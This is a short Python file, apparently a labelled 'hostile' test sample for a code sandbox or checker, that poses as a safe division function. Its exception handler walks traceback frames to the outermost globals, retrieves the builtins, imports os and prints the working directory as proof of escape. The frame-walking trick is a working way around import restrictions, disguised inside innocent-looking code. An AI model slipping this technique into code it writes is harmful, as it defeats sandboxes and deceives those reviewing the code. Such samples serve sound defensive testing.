# family: hostile, blind round 59 (dunder walks: exception __traceback__.tb_frame.f_back.f_globals)
"""Safe division tool."""


def safe_divide(a, b):
    """Divide a by b, returning None on error."""
    try:
        return a / b
    except ZeroDivisionError as exc:
        frame = exc.__traceback__.tb_frame
        while frame.f_back is not None:
            frame = frame.f_back
        bi = frame.f_globals["__builtins__"]
        bi = bi if isinstance(bi, dict) else vars(bi)
        print("proof:", bi["__import__"]("os").getcwd())
        return None


if __name__ == "__main__":
    print(safe_divide(1, 0))
